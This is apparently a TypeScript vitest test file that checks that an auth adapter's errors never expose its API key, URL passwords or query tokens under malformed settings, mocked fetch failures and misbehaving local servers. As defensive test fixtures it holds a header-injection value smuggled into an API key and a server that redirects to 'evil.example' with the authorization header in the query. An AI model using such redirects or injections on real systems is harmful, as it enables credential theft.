// No error of the adapter, and nothing that hangs on one, holds the API key or what else is secret in its settings.

import { createServer, type RequestListener } from "node:http";
import type { AddressInfo } from "node:net";
import { inspect } from "node:util";

import { afterAll, beforeAll, describe, expect, test } from "vitest";

import { AuthGraphAdapter, type AuthGraphOptions } from "@authgraph/adapter";

const SECRET = "5ec3e75ec3e75ec3e75ec3e75ec3e75ec3e75ec3e75ec3e75ec3e75ec3e75ec3";
const KEY = `ag_0123456789abcdef_${SECRET}`;
const PASSWORD = "hunter2-hunter2";
const TOKEN = "token-in-the-query-string";

type Fetch = typeof globalThis.fetch;

/** Everything that printing, logging or walking an error can show. */
function everything(error: unknown): string {
  const seen = new Set<unknown>();
  const texts: string[] = [];
  const walk = (value: unknown) => {
    if (typeof value === "string") texts.push(value);
    if (typeof value === "symbol") texts.push(String(value));
    if ((typeof value !== "object" && typeof value !== "function") || value === null || seen.has(value)) return;
    seen.add(value);
    if (value instanceof Headers) texts.push(...[...value].flat());
    for (const key of Reflect.ownKeys(value)) {
      walk(key);
      walk((value as Record<PropertyKey, unknown>)[key]);
    }
  };
  walk(error);
  texts.push(String(error));
  texts.push(inspect(error, { depth: null, showHidden: true, getters: true, maxStringLength: null }));
  texts.push(JSON.stringify(error) ?? "", JSON.stringify(error, Object.getOwnPropertyNames(error)) ?? "");
  if (error instanceof Error && error.cause) texts.push(everything(error.cause));
  return texts.join("\n");
}

const UNREACHABLE = "http://127.0.0.1:9/graphql";

/** What a `fetch` that is too talkative throws. */
function talkative(thrown: (init: RequestInit) => unknown): Fetch {
  return (async (_: unknown, init: RequestInit) => {
    throw thrown(init);
  }) as Fetch;
}

const answering = (make: (init: RequestInit) => Response): Fetch =>
  (async (_: unknown, init: RequestInit) => make(init)) as Fetch;
const problem = (error: unknown, status = 200): Fetch =>
  answering(() => new Response(JSON.stringify({ data: null, errors: [error] }), { status }));

const settings: Record<string, Partial<AuthGraphOptions>> = {
  "a key with a line break": { apiKey: `${KEY}\n` },
  "a key with a line break inside": { apiKey: `ag_0123\n${SECRET}` },
  "a key with a header after it": { apiKey: `${KEY}\r\nx-forwarded-for: 127.0.0.1` },
  "a key with a space": { apiKey: `Bearer ${KEY}` },
  "a key with a letter beyond ASCII": { apiKey: `${KEY}é` },
  "a key with a NUL": { apiKey: `${KEY}\0` },
  "a key with a lone surrogate": { apiKey: `${KEY}\ud800` },
  "a key that is no text": { apiKey: { toString: () => KEY } as never },
  "a url with a password": { url: `https://admin:${PASSWORD}@auth.example/graphql` },
  "a url with a user name": { url: `https://${PASSWORD}@auth.example/graphql` },
  "a url with a password and no host": { url: `https://admin:${PASSWORD}@/graphql` },
  "a url with a password and a space": { url: `https://admin:${PASSWORD}@auth example/graphql` },
  "a url without a scheme": { url: `admin:${PASSWORD}@auth.example/graphql` },
  "a relative url": { url: `/graphql?key=${PASSWORD}` },
  "the key as url": { url: KEY },
  "a url of another scheme": { url: `file:///${PASSWORD}` },
  "a url with the key in its path": { url: `http://127.0.0.1:9/${KEY}/graphql` },
  "a url with a token in its query": { url: `${UNREACHABLE}?token=${TOKEN}#${TOKEN}` },
  "a server that is not there": { url: UNREACHABLE },
  "a host that is not there": { url: "http://authgraph.invalid/graphql" },
  "a timeout that is no number": { timeoutMs: Number.NaN },
  "a timeout that is negative": { timeoutMs: -1 },
};

const failures: Record<string, Fetch> = {
  "an error that names its header": talkative(
    ({ headers }) => new TypeError(`invalid header value: ${JSON.stringify(headers)}`),
  ),
  "an error that brings its request along": talkative((init) =>
    Object.assign(new Error("failed"), { config: init, request: init, response: { config: init } }),
  ),
  "a cause that names its header": talkative(
    ({ headers }) => new Error("failed", { cause: new Error("deep", { cause: new Error(JSON.stringify(headers)) }) }),
  ),
  "a cause that is the request": talkative((init) => new Error("failed", { cause: init })),
  "several causes": talkative((init) => new AggregateError([new Error(JSON.stringify(init))], "failed")),
  "a stack that shows its arguments": talkative(({ headers }) => {
    const error = new Error("failed");
    error.stack = `Error: failed\n    at fetch (${JSON.stringify(headers)})`;
    return error;
  }),
  "a code that is the key": talkative(() => Object.assign(new Error("failed"), { code: KEY })),
  "a name that is the key": talkative(() => Object.assign(new Error("failed"), { name: KEY })),
  "text": talkative(({ headers }) => JSON.stringify(headers)),
  "an object": talkative((init) => init),
  "nothing": talkative(() => undefined),
  "the key, encoded": talkative(() => new Error(`failed at /?key=${encodeURIComponent(KEY)}`)),
  "a page that shows the request": answering(
    ({ headers }) => new Response(`<html>${JSON.stringify(headers)}`, { status: 502 }),
  ),
  "an error that shows the request": answering(
    ({ headers }) => new Response(JSON.stringify({ errors: [{ message: JSON.stringify(headers) }] }), { status: 500 }),
  ),
  "a code that shows it": problem({ message: "no", extensions: { code: KEY } }),
  "a path that shows it": problem({ message: "no", path: ["user", KEY, 1] }),
  "a path that is no list": problem({ message: "no", path: { key: KEY } }),
  "a message that is no text": problem({ message: { key: KEY, toString: 1 } }),
  "an error of GraphQL": problem({ message: `Unknown key ${KEY}.`, extensions: { code: "UNAUTHENTICATED" } }, 401),
  "a body that breaks off": answering(
    ({ headers }) =>
      new Response(
        new ReadableStream({ pull: (controller) => controller.error(new Error(JSON.stringify(headers))) }),
      ),
  ),
};

async function failure(options: Partial<AuthGraphOptions>): Promise<unknown> {
  const adapter = AuthGraphAdapter({ url: "http://auth.example/graphql", apiKey: KEY, timeoutMs: 5000, ...options });
  return Promise.resolve(adapter.createSession({ sessionToken: "t", userId: "1", expires: new Date(4e12) })).then(
    () => null,
    (error: unknown) => error,
  );
}

function expectNoSecret(error: unknown) {
  expect(error).toBeInstanceOf(Error);
  const shown = everything(error);
  for (const secret of [SECRET, PASSWORD, TOKEN, "x-forwarded-for"]) expect(shown).not.toContain(secret);
}

describe("no secret is in an error about", () => {
  test.concurrent.each(Object.keys(settings))("%s", async (name) => {
    expectNoSecret(await failure(settings[name]!));
  });
});

describe("no secret is in an error after", () => {
  test.concurrent.each(Object.keys(failures))("%s", async (name) => {
    expectNoSecret(await failure({ fetch: failures[name]! }));
  });

  test("a refusal that shows it", async () => {
    const userErrors = [{ code: "INVALID", message: `Not with ${KEY}.`, path: ["session", KEY] }];
    const fetch = answering(() => new Response(JSON.stringify({ data: { result: { session: null, userErrors } } })));
    const error = await failure({ fetch });
    expectNoSecret(error);
    expect(String(error)).toContain("Not with …. (session.…)");
  });

  test("an answer that never comes", async () => {
    const fetch = ((_: unknown, { signal, headers }: RequestInit) =>
      new Promise((__, reject) => {
        signal!.addEventListener("abort", () => reject(new Error(JSON.stringify(headers), { cause: signal!.reason })));
      })) as Fetch;
    expectNoSecret(await failure({ fetch, timeoutMs: 20 }));
  });
});

describe("no secret is in an error of a real server that", () => {
  const behaviours: Record<string, RequestListener> = {
    "echoes the request": (request, response) => response.end(JSON.stringify(request.headers)),
    "refuses with a page": (request, response) => response.writeHead(401).end(JSON.stringify(request.headers)),
    "redirects": (request, response) =>
      response.writeHead(302, { location: `https://evil.example/?key=${request.headers.authorization}` }).end(),
    "redirects to a broken address": (_, response) => response.writeHead(307, { location: "http://[" }).end(),
    "hangs up": (request) => request.socket.destroy(),
    "breaks off": (_, response) => {
      response.writeHead(200, { "content-length": "1000" });
      response.write("{");
      response.destroy();
    },
    "answers nonsense": (_, response) => response.socket!.end(`HTTP/1.1 ${KEY}\r\n\r\n`),
    "does not answer": () => {},
  };
  const server = createServer((request, response) => {
    behaviours[decodeURIComponent(request.url!.slice(1))]!(request, response);
  });
  let origin = "";

  beforeAll(async () => {
    await new Promise<void>((listening) => server.listen(0, "127.0.0.1", listening));
    origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  });
  afterAll(() => {
    server.closeAllConnections();
    server.close();
  });

  test.concurrent.each(Object.keys(behaviours))("%s", async (name) => {
    expectNoSecret(await failure({ url: `${origin}/${encodeURIComponent(name)}`, timeoutMs: 500 }));
  });
});

test("what is left of an error still helps", async () => {
  const error = await failure({ url: "http://127.0.0.1:9/graphql?token=secret-token" });
  expect(String(error)).toMatch(/No answer to CreateSession at http:\/\/127\.0\.0\.1:9\/graphql, tried 3 times: fetch failed/);
  expect(error).toMatchObject({ code: "NETWORK_ERROR", cause: { name: "TypeError", message: "fetch failed" } });
});
